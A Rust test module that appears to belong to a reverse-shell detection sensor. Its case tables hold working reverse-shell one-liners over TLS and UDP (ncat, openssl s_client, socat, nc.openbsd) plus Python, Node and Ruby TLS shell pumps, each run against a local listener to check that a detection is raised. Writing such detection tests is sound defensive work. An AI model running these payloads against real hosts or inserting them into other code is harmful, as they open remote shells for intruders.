//! Relays that reach the peer through TLS or over UDP.

use anyhow::Result;
use sensor_tests::{
    carried::PUMP,
    lab::{Lab, REVERSE},
    peer::{Listener, V4},
    suite::Case,
    tls::TlsListener,
};

/// Through TLS.
const TLS: [(&str, &[&str], &str); 5] = [
    ("ncat_ssl", &["ncat"], "mkfifo f; sh -i <f 2>&1 | ncat --ssl $H $P >f"),
    ("ncat_ssl_e", &["ncat"], "exec ncat --ssl -e /bin/sh $H $P"),
    (
        "openssl",
        &["openssl"],
        "mkfifo f; sh -i <f 2>&1 | openssl s_client -quiet -connect $H:$P >f 2>/dev/null",
    ),
    (
        "socat_openssl",
        &["socat"],
        "exec socat OPENSSL:$H:$P,verify=0 EXEC:/bin/sh",
    ),
    (
        "socat_openssl_pty",
        &["socat"],
        "socat OPENSSL:$H:$P,verify=0 EXEC:'bash --norc -i',pty,stderr,setsid,sane; true",
    ),
];

const UDP: [(&str, &[&str], &str); 4] = [
    ("ncat_udp", &["ncat"], "exec ncat -u $H $P -c 'exec sh -i 2>&1'"),
    (
        "mkfifo_ncat_udp",
        &["ncat"],
        "mkfifo f; sh -i <f 2>&1 | ncat -u $H $P >f",
    ),
    (
        "mkfifo_openbsd_udp",
        &["nc.openbsd"],
        "mkfifo f; sh -i <f 2>&1 | nc.openbsd -u $H $P >f",
    ),
    ("socat_udp", &["socat"], "exec socat UDP4:$H:$P EXEC:'sh -i',stderr"),
];

/// A general program speaks TLS and carries an interactive shell's pipes.
const TLS_PUMPS: [(&str, &[&str], &str); 4] = [
    (
        "python_pipes",
        &["python3"],
        r#"exec /usr/bin/python3 -c 'import os,select,socket,ssl,subprocess
s=ssl._create_unverified_context().wrap_socket(socket.create_connection((os.environ["H"],int(os.environ["P"]))))
p=subprocess.Popen(["/bin/sh","-i"],stdin=-1,stdout=-1,stderr=-2,bufsize=0)
while True:
  for r in select.select([s,p.stdout],[],[])[0]:
    d=s.recv(4096) if r is s else os.read(p.stdout.fileno(),4096)
    if not d: raise SystemExit
    p.stdin.write(d) if r is s else s.sendall(d)'"#,
    ),
    (
        "python_socketpair",
        &["python3"],
        r#"/usr/bin/python3 -c 'import os,select,socket,ssl,subprocess
a,b=socket.socketpair()
p=subprocess.Popen(["bash","--norc","-i"],stdin=b,stdout=b,stderr=b); b.close()
s=ssl._create_unverified_context().wrap_socket(socket.create_connection((os.environ["H"],int(os.environ["P"]))))
while p.poll() is None:
  for r in select.select([s,a],[],[],1)[0]:
    d=r.recv(4096)
    if not d: raise SystemExit
    (a if r is s else s).sendall(d)'; true"#,
    ),
    (
        "node",
        &["node"],
        r#"exec node -e 'const s=require("tls").connect({port:+process.env.P,host:process.env.H,rejectUnauthorized:false},()=>{
const c=require("child_process").spawn("/bin/sh",["-i"]); s.pipe(c.stdin); c.stdout.pipe(s); c.stderr.pipe(s); c.on("exit",()=>s.end()) })'"#,
    ),
    (
        "ruby",
        &["ruby"],
        r#"exec ruby -rsocket -ropenssl -ropen3 -e 's=OpenSSL::SSL::SSLSocket.new(TCPSocket.new(ENV["H"],ENV["P"].to_i)); s.connect
Open3.popen2e("/bin/bash","--norc","-i"){|i,o,t| Thread.new{ begin; loop{ i.write(s.readpartial(1024)); i.flush }; rescue; end }
begin; loop{ s.write(o.readpartial(1024)) }; rescue; end; s.close }'"#,
    ),
];

fn tls(lab: &Lab<'_>, script: &str) -> Result<()> {
    let listener = TlsListener::new(lab)?;
    lab.bash(script, &[("H", "127.0.0.1"), ("P", &listener.port().to_string())])?;
    lab.carried(listener.accept()?, REVERSE)
}

/// Hanging up can't be heard over UDP: what carries the streams is ended with the shell.
fn udp(lab: &Lab<'_>, script: &str) -> Result<()> {
    let mut peer = lab.calls(&Listener::udp(V4)?, "127.0.0.1", script)?;
    let shell = peer.shell()?;
    let finding = lab.risen_finding(peer.ends(), REVERSE)?;
    lab.same(&finding, &shell)?;
    peer.send("kill -9 0\n")?;
    lab.ended(&finding)?;
    Ok(())
}

pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, tools, script) in TLS {
        cases.push(Case::new(format!("relay_tls::{name}"), tools, move |lab| {
            tls(lab, script)
        }));
    }
    for (name, tools, script) in TLS_PUMPS {
        cases.push(Case::new(format!("pump_tls::{name}"), tools, move |lab| {
            let listener = TlsListener::new(lab)?;
            lab.bash(script, &[("H", "127.0.0.1"), ("P", &listener.port().to_string())])?;
            lab.pumped(listener.accept()?, PUMP)
        }));
    }
    for (name, tools, script) in UDP {
        cases.push(Case::new(format!("relay_udp::{name}"), tools, move |lab| {
            udp(lab, script)
        }));
    }
    cases
}
